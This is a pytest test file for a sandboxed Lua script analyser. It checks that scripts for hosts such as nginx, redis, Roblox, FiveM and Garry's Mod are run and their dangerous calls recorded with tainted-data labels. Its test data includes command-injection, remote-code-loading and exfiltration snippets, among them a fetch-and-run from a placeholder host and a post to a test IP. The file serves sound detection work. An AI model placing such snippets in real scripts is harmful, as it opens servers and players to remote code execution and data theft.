"""Scripts of each host are answered as that host would, and what they hand over is called with marked data."""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from perilune.model.lua import Dialect, Outcome
from tests.analysis.lua.test_cage import READY, WHY, calls, run

pytestmark = pytest.mark.skipif(not READY, reason=f"no cage here: {WHY}")


@dataclass(frozen=True, slots=True)
class Case:
    """A script, the call that it comes to, and what marked data that call carries."""

    host: str
    code: str
    name: str
    carries: str
    dialect: Dialect = Dialect.LUA


CASES = [
    Case("nginx", "ngx.req.read_body() local b = ngx.req.get_body_data() os.execute(ngx.unescape_uri(b))", "os.execute", "request"),
    Case("nginx variables", "local f = io.popen(ngx.var.arg_cmd) ngx.say(f:read('*a'))", "ngx.say", "process"),
    Case("redis", "redis.call('SET', KEYS[1], ARGV[1]) return load(ARGV[1])()", "load", "request"),
    Case("nmap", "portrule = function() return true end action = function(host, port) local s = nmap.new_socket() s:connect(host.ip, port.number) "
         "local ok, line = s:receive_lines(1) os.execute(line) end", "os.execute", "network"),
    Case("wireshark", "local p = Proto('x', 'X') function p.dissector(buffer, info, tree) os.execute(tostring(buffer)) end", "os.execute", "argument"),
    Case("neovim", "vim.api.nvim_create_autocmd('BufRead', { callback = function(a) vim.fn.system('sh ' .. a.file) end })", "vim.fn.system", ""),
    Case("wow", "local f = CreateFrame('Frame') f:SetScript('OnEvent', function(self, event, text) RunScript(text) end)", "RunScript", "argument"),
    Case("roblox", "loadstring(game:HttpGet('https://x.example.com/a.lua'))()", "loadstring", "network", Dialect.LUAU),
    Case("roblox event", "workspace.Part.Touched:Connect(function(hit) game:GetService('HttpService'):PostAsync('http://192.0.2.1', hit) end)",
         "HttpService.PostAsync", "argument", Dialect.LUAU),
    Case("fivem", "RegisterServerEvent('x') AddEventHandler('x', function(code) load(code)() end)", "load", "request", Dialect.CFXLUA),
    Case("fivem command", "RegisterCommand('x', function(source, args) os.execute(args[1]) end)", "os.execute", "request", Dialect.CFXLUA),
    Case("gmod", "net.Receive('x', function(len, ply) RunString(net.ReadString()) end)", "RunString", "request", Dialect.GLUA),
    Case("gmod console", "concommand.Add('x', function(ply, cmd, args) RunString(args[1]) end)", "RunString", "request", Dialect.GLUA),
    Case("prosody", "module:hook('message/bare', function(event) os.execute(event.stanza) end)", "os.execute", "request"),
    Case("haproxy", "core.register_action('x', { 'http-req' }, function(txn) os.execute(txn.sf:req_fhdr('x')) end)", "os.execute", "request"),
    Case("haproxy service", "core.register_service('x', 'http', function(applet) os.execute(applet.qs) end)", "os.execute", "request"),
    Case("a thread that never ends", "Citizen.CreateThread(function() while true do Citizen.Wait(0) TriggerServerEvent('x', GetConvar('a', 'b')) end end)",
         "TriggerServerEvent", "", Dialect.CFXLUA),
]  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.host)
def test_the_host_is_played(case: Case) -> None:
    found = run(case.code, case.dialect)
    assert found.outcome is Outcome.EXPLAINED, found.reason
    named = [one for one in found.events if one.name == case.name]
    assert named, calls(found)
    assert not case.carries or any(case.carries in one.carries for one in named)


def test_what_was_seen_before_it_hangs_or_crashes_is_kept() -> None:
    found = run("os.execute('first') while true do end", steps=400_000)
    assert found.outcome is Outcome.STALLED and calls(found) == [("os.execute", "first")]
    found = run("os.execute('first') return (('a'):rep(5000)):find(('.-'):rep(14) .. 'b')", pass_seconds=0.3)
    assert found.reason == "it used up its time" and calls(found)[0] == ("os.execute", "first")
    found = run("os.execute('first') local s = 'x' while true do s = s .. s end", Dialect.LUA54)
    assert (found.outcome, found.reason) == (Outcome.STALLED, "it used up its memory")
    crash = "os.execute('first') local function f() return coroutine.wrap(f)() end while true do pcall(f) end"
    found = run(crash, Dialect.LUAJIT21)
    assert found.outcome in (Outcome.PARTIAL, Outcome.STALLED) and calls(found) == [("os.execute", "first")]


def test_it_is_run_again_as_on_windows() -> None:
    hidden = "local s = {} for c in ('tesrevnoc.exe'):gmatch('.') do s[#s + 1] = c end "
    found = run(
        hidden
        + "if os.getenv('OS') then os.execute('seen ' .. os.getenv('APPDATA')) else os.execute('C:\\\\x\\\\y.cmd') end"
    )
    assert ("os.execute", "seen C:\\Users\\d.weber\\AppData\\Roaming") in calls(found)


def test_it_is_run_without_the_request_too() -> None:
    found = run("if ngx.var.arg_x then os.execute(ngx.var.arg_x) else os.execute('nobody asks') end")
    assert [one.why for one in found.passes] == ["", "without a request"]
    assert ("os.execute", "nobody asks") in calls(found)


def test_it_is_run_eight_times_at_most() -> None:
    found = run("\n".join(f"missing{n}.call({n})" for n in range(20)))
    assert len(found.passes) == 8 and "one more might have shown more" in found.cut[-1]
    assert found.outcome is Outcome.PARTIAL
